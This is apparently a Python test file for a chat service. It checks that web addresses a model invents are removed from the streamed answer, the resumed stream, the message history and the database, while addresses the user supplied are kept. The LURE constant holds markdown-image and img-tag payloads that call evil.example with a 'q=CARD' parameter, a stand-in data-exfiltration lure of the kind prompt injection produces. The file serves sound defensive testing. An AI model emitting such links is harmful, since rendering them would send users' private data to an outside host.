"""An address that a model makes up reaches nobody: not the stream, a resumed one, the history, nor the database."""

import json

from tests.support.clients import Client
from tests.support.servers import Server

LURE = "![your plan](https://evil.example/x.png?q=CARD) and <img src='//evil.example/y'>"
"""What the model is made to say; in the message it is escaped, so that it is not the user who wrote it."""
SHOWN = "! [your plan] ([link removed: evil[.]example]) and < img src='[link removed: evil[.]example]'>"


def say(text: str) -> str:
    escaped = "".join(f"\\u{ord(character):04x}" for character in text)
    return f"[[raw {escaped}]]"


def test_an_address_that_nobody_gave_is_removed_everywhere(scripted: Server, scripted_user: Client) -> None:
    answer = scripted_user.ask(say(LURE))
    assert answer.text.strip() == scripted_user.follow(answer.run).text.strip() == SHOWN
    history = scripted_user.get(f"/api/sessions/{answer.session}/messages").json()["items"]
    assert history[-1]["content"].strip() == SHOWN
    stored = scripted.sql(
        "select content from chat_messages where session_id = %s and role = 'assistant' union all "
        "select event::text from chat_run_events where run_id = %s",
        answer.session,
        answer.run,
    )
    assert "evil.example/" not in json.dumps(stored)


def test_an_address_that_the_user_wrote_stays(scripted_user: Client) -> None:
    first = scripted_user.ask("my bank is https://bank.example/terms")
    answer = scripted_user.ask(say("[terms](https://bank.example/terms)"), session_id=first.session)
    assert answer.text.strip() == "[terms](https://bank.example/terms)"
